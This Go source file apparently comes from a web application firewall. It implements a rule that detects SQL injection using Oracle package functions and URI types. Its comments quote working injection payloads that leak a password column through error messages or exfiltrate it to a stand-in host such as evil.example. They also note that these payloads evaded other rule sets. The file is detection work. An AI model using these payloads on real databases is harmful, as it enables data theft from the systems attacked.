package waf

import "strings"

// oracleFunction is rule 210101's operator: a function called with a
// subquery as its argument (subqueryArgument), or a call of a function in
// one of Oracle's own packages (oraclePackageCall).
func oracleFunction(v string) bool { return subqueryArgument(v) || oraclePackageCall(v) }

// oracleSchemas are the schemas of Oracle's own options whose packages
// and types no one else names: Multimedia (ORDSYS.ORD_DICOM), Text
// (CTXSYS.CTX_REPORT, CTXSYS.DRITHSX), Spatial (MDSYS), Workspace
// Manager (WMSYS), OLAP (OLAPSYS), Label Security (LBACSYS), Expression
// Filter (EXFSYS), Database Vault (DVSYS).
var oracleSchemas = []string{"ordsys", "ctxsys", "mdsys", "wmsys", "olapsys", "lbacsys", "exfsys", "dvsys"}

// oraclePackages are packages of Oracle's options that public synonyms
// name without their schema (ORD_DICOM for ORDSYS.ORD_DICOM, CTX_REPORT
// for CTXSYS.CTX_REPORT, SDO_UTIL for MDSYS.SDO_UTIL), and the web
// packages OWA_UTIL and APEX_WEB_SERVICE (which fetches a URL).
var oraclePackages = []string{"ord_dicom", "ord_dicom_admin", "ord_image", "ord_audio", "ord_video", "ord_doc", "ordimage",
	"ctx_report", "ctx_ddl", "ctx_doc", "ctx_query", "ctx_output", "ctx_thes", "ctx_cls", "ctx_adm", "ctx_entity", "ctx_anl",
	"sdo_util", "sdo_geom", "sdo_cs", "sdo_lrs", "sdo_net", "sdo_topo", "sdo_sam", "sdo_tune", "sdo_migrate",
	"owa_util", "apex_web_service"}

// oracleURITypes are Oracle's URI types, whose constructors fetch a URL
// (HTTPURITYPE(...).GETCLOB() reads a web page from the database server)
// or read the database by a path (DBURITYPE, XDBURITYPE).
var oracleURITypes = []string{"httpuritype", "dburitype", "xdburitype"}

// oraclePackageCall is rule 210101's second reading: a call (a name, then
// white space or comments, then a bracket) of a function in one of
// Oracle's own packages and schemas, where an injected expression stands
// (injectedCall: the value's start, after an operator, a bracket, a comma
// or a word of SQL's conditions). The name is read in parts, bare or in
// double quotes ("SYS"."DBMS_XDB_VERSION"."CHECKIN"), at most four; it is
// Oracle's when a part before the function's is a package DBMS_* or UTL_*
// (dbms_xdb_version.checkin, sys.dbms_aw_xml.readawmetadata,
// utl_http.request, dbms_ldap.init), when its schema is one of
// oracleSchemas (ordsys.ord_dicom.getmappingxpath,
// ctxsys.ctx_report.token_type), or when a part is one of oracleURITypes
// (httpuritype(...), sys.httpuritype.createuri(...)).
//
// Oracle's error-based reads put a column's value in an error message
// through these functions, and its out-of-band reads send it to a host the
// attacker names: x' and 1=dbms_xdb_version.checkin(password)--,
// x'||ctxsys.ctx_report.token_type(password,user)||',
// x'||dbms_ldap.init(password||'.evil.example',389)||',
// x'||httpuritype('http://evil.example/'||password).getclob()||', and in
// a sort slot the whole value ordsys.ord_dicom.getmappingxpath(password,
// user,user) or name,dbms_xdb_version.checkin(password). Rule 210101's
// first reading needs a subquery as the argument, and the CRS names
// utl_http, utl_inaddr, dbms_pipe and ctxsys.drithsx only (libinjection
// reads some of them after a quote): all passed both (a fresh-eyes
// attack, attack 74). Prose names the packages without calling them: "use
// DBMS_STATS to gather statistics", "the UTL_FILE package",
// "dbms_xdb_version.checkin is an Oracle package", Python's sys.exit(1)
// (sys is a schema only before a DBMS_ or UTL_ package) pass; a forum post
// that quotes Oracle code with a call after an operator, a bracket or a
// word such as exec or call (exec dbms_stats.gather_schema_stats('HR')) is
// refused: the price. Linear: each name is read once, at most four parts
// of 64 bytes, and the comments before its bracket are searched once
// (sqlReader).
func oraclePackageCall(v string) bool {
	if indexFold(v, "dbms_") < 0 && indexFold(v, "utl_") < 0 && indexFold(v, "sys") < 0 && indexFold(v, "uritype") < 0 &&
		indexFold(v, "ord") < 0 && indexFold(v, "ctx_") < 0 && indexFold(v, "sdo_") < 0 && indexFold(v, "owa_") < 0 && indexFold(v, "apex_") < 0 {
		return false
	}
	var r *sqlReader
	for i := 0; i < len(v); i++ {
		if c := v[i]; !identByte(c, "\"") || c >= '0' && c <= '9' || i > 0 && (identByte(v[i-1], "$#\"") || v[i-1] == '.') {
			continue
		}
		if r == nil {
			r = newSQLReader(v)
		}
		// the parts, white space and comments around their dots
		// (Oracle's parser takes dbms_xdb_version . checkin)
		var parts [4]string
		n, e, end := 0, i, i
		for n < len(parts) {
			k, text, _ := sqlNamePart(v, e)
			if k == e {
				break
			}
			parts[n], n, end = text, n+1, k
			d := r.skip(k)
			if d >= len(v) || v[d] != '.' {
				break
			}
			e = r.skip(d + 1)
		}
		if n == 0 {
			continue
		}
		start := i
		i = max(i, end-1)
		if !oracleName(parts[:n]) {
			continue
		}
		if b := r.skip(end); b < len(v) && v[b] == '(' && injectedCall(v, start) {
			return true
		}
	}
	return false
}

// oracleName: the parts of a name (oraclePackageCall) name a function of
// Oracle's own: a DBMS_ or UTL_ package or one of oraclePackages before
// the last part, a schema of oracleSchemas first, or an URI type
// anywhere.
func oracleName(parts []string) bool {
	for k, p := range parts {
		if k < len(parts)-1 && (hasPrefixFold(p, "dbms_") || hasPrefixFold(p, "utl_")) {
			return true
		}
		if k < len(parts)-1 {
			for _, q := range oraclePackages {
				if strings.EqualFold(p, q) {
					return true
				}
			}
		}
		for _, t := range oracleURITypes {
			if strings.EqualFold(p, t) {
				return true
			}
		}
	}
	if len(parts) < 2 {
		return false
	}
	for _, s := range oracleSchemas {
		if strings.EqualFold(parts[0], s) {
			return true
		}
	}
	return false
}

// hasPrefixFold: v starts with the ASCII prefix lower (lowercase) in any
// case.
func hasPrefixFold(v, lower string) bool {
	return len(v) >= len(lower) && strings.EqualFold(v[:len(lower)], lower)
}
